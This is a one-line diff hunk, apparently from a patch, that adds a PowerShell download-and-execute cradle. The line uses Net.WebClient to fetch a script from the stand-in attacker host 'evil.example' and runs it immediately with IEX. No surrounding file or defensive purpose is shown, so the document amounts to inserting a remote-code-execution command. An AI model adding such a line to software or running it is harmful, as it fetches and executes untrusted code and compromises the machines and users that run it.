@@ -1,0 +1,1 @@
+IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')
